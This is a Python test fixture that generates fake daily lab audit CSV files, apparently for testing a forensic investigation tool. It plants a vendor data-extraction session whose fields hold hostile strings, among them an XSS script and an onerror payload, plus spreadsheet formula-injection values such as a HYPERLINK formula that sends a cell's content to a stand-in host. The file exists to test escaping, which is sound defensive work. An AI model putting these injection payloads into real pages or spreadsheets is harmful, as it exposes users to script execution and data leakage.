"""Hand-written current-dialect evidence for investigation tests (case 009 hostile text).

``write_hostile_case(folder)`` writes one lab's daily audit files in the current
dialect (UTF-8 with BOM, LF, ``;``, ISO 8601 times with offset), with a vendor
extraction session whose account, workstation and comments carry the hostile
values of ``shared/cases/009-hostile-text/expected.md``, and the leak of that
extraction's patients.
"""

from __future__ import annotations

import csv
import gzip
import io
from pathlib import Path

import pandas as pd

from lis_headers import CURRENT_HEADER as HEADER

HOSTILE_ACCOUNT = "<img src=x onerror=alert(1)>"
HOSTILE_HOST = r"cost $x^2$ \$HOME"
HOSTILE_COMMENTS = [
    "</td><script>alert(1)</script>",
    'http://h.example/?q=a"b',
    '=HYPERLINK("http://x.example/?"&A1;"ok")',
    "@SUM(1+1)",
    "+33 2 99 00 00 00",
    "-5.2",
]
N_PATIENTS = 240
LAB = "L01"


def ipps(lab: str = LAB) -> list[str]:
    """The raw IPPs of the lab (8 digits, distinctive so a scan cannot miss one)."""
    base = 73100000 if lab == LAB else 73200000
    return [str(base + i) for i in range(N_PATIENTS)]


def _row(ts, lab, login, profil, poste, ip, module, action, ipp="", nb="", vol="", sess="",
         comment="") -> list[str]:  # fmt: skip
    return [ts.isoformat(), lab, "S1", login, profil, poste, ip, module, action, "succes", ipp,
            "", str(nb), str(vol), sess, comment]  # fmt: skip


def write_hostile_case(
    folder: Path, *, days: int = 21, lab: str = LAB, damaged: bool = False
) -> dict[str, Path]:
    """Write evidence/, leak/leaked_ipps.csv; returns their paths.

    With ``damaged``, the last file ends with three hostile lines of the wrong
    width (quarantined), a gzipped day is cut short, and a binary file that no
    reader recognises sits in the folder.
    """
    ev_dir = folder / "evidence"
    ev_dir.mkdir(parents=True, exist_ok=True)
    pats = ipps(lab)
    start = pd.Timestamp("2020-03-02", tz="Europe/Paris")
    techs = ["marie.d", "paul.t", "hélène.m"]
    for d in range(days):
        day = start + pd.Timedelta(days=d)
        rows = []
        for k, tech in enumerate(techs):
            t = day + pd.Timedelta(hours=8 + 2 * k)
            sid = f"A{d:02d}{k}"
            rows.append(_row(t, lab, tech, "technicien", f"PC-{k}", f"10.1.0.{10 + k}",
                             "saisie", "connexion", sess=sid))  # fmt: skip
            for j in range(12):
                p = pats[(d * 36 + k * 12 + j) % len(pats)]
                rows.append(_row(t + pd.Timedelta(minutes=2 + j), lab, tech, "technicien",
                                 f"PC-{k}", f"10.1.0.{10 + k}", "resultats", "consultation",
                                 ipp=p, sess=sid))  # fmt: skip
            rows.append(_row(t + pd.Timedelta(minutes=3), lab, tech, "technicien", f"PC-{k}",
                             f"10.1.0.{10 + k}", "resultats", "export", nb=5, vol=900,
                             sess=sid, comment="export hebdo"))  # fmt: skip
            rows.append(_row(t + pd.Timedelta(minutes=20), lab, tech, "technicien", f"PC-{k}",
                             f"10.1.0.{10 + k}", "saisie", "deconnexion", sess=sid))  # fmt: skip
        if d == 15:  # the vendor's night extraction, with hostile text everywhere
            t = day + pd.Timedelta(hours=2, minutes=10)
            sid = "V-EXTRACT"
            rows.append(_row(t, lab, HOSTILE_ACCOUNT, "editeur", HOSTILE_HOST, "203.0.113.9",
                             "extraction", "connexion", sess=sid,
                             comment=HOSTILE_COMMENTS[0]))  # fmt: skip
            for j, c in enumerate(HOSTILE_COMMENTS[1:], 1):
                rows.append(_row(t + pd.Timedelta(minutes=j), lab, HOSTILE_ACCOUNT, "editeur",
                                 HOSTILE_HOST, "203.0.113.9", "extraction", "recherche",
                                 nb=len(pats), sess=sid, comment=c))  # fmt: skip
            rows.append(_row(t + pd.Timedelta(minutes=9), lab, HOSTILE_ACCOUNT, "editeur",
                             HOSTILE_HOST, "203.0.113.9", "extraction", "extraction",
                             nb=len(pats), vol=len(pats) * 512, sess=sid,
                             comment=f"Extraction complete vers ftp://transfert/{lab}_export.csv"))  # fmt: skip
            rows.append(_row(t + pd.Timedelta(minutes=12), lab, HOSTILE_ACCOUNT, "editeur",
                             HOSTILE_HOST, "203.0.113.9", "extraction", "deconnexion",
                             sess=sid))  # fmt: skip
        rows.sort(key=lambda r: r[0])
        buf = io.StringIO()
        buf.write(HEADER + "\n")
        w = csv.writer(buf, delimiter=";", quotechar='"', lineterminator="\n",
                       quoting=csv.QUOTE_MINIMAL)  # fmt: skip
        w.writerows(rows)
        if damaged and d == days - 1:
            buf.write('=HYPERLINK("http://x.example/?"&A1;"ok")\n-5.2\n@SUM(1+1)\n')
        name = f"audit_{lab.lower()}_{day.strftime('%Y-%m-%d')}.csv"
        data = b"\xef\xbb\xbf" + buf.getvalue().encode("utf-8")
        if damaged and d == days - 2:
            gz = gzip.compress(data, mtime=0)
            (ev_dir / (name + ".gz")).write_bytes(gz[: len(gz) * 2 // 3])
            continue
        (ev_dir / name).write_bytes(data)
    if damaged:
        (ev_dir / "blob.bin").write_bytes(bytes(range(256)) * 4)
    leak_dir = folder / "leak"
    leak_dir.mkdir(exist_ok=True)
    leak = leak_dir / "leaked_ipps.csv"
    leak.write_text("lab,ipp\n" + "".join(f"{lab},{p}\n" for p in pats), encoding="utf-8")
    return {"evidence": ev_dir, "leak": leak}
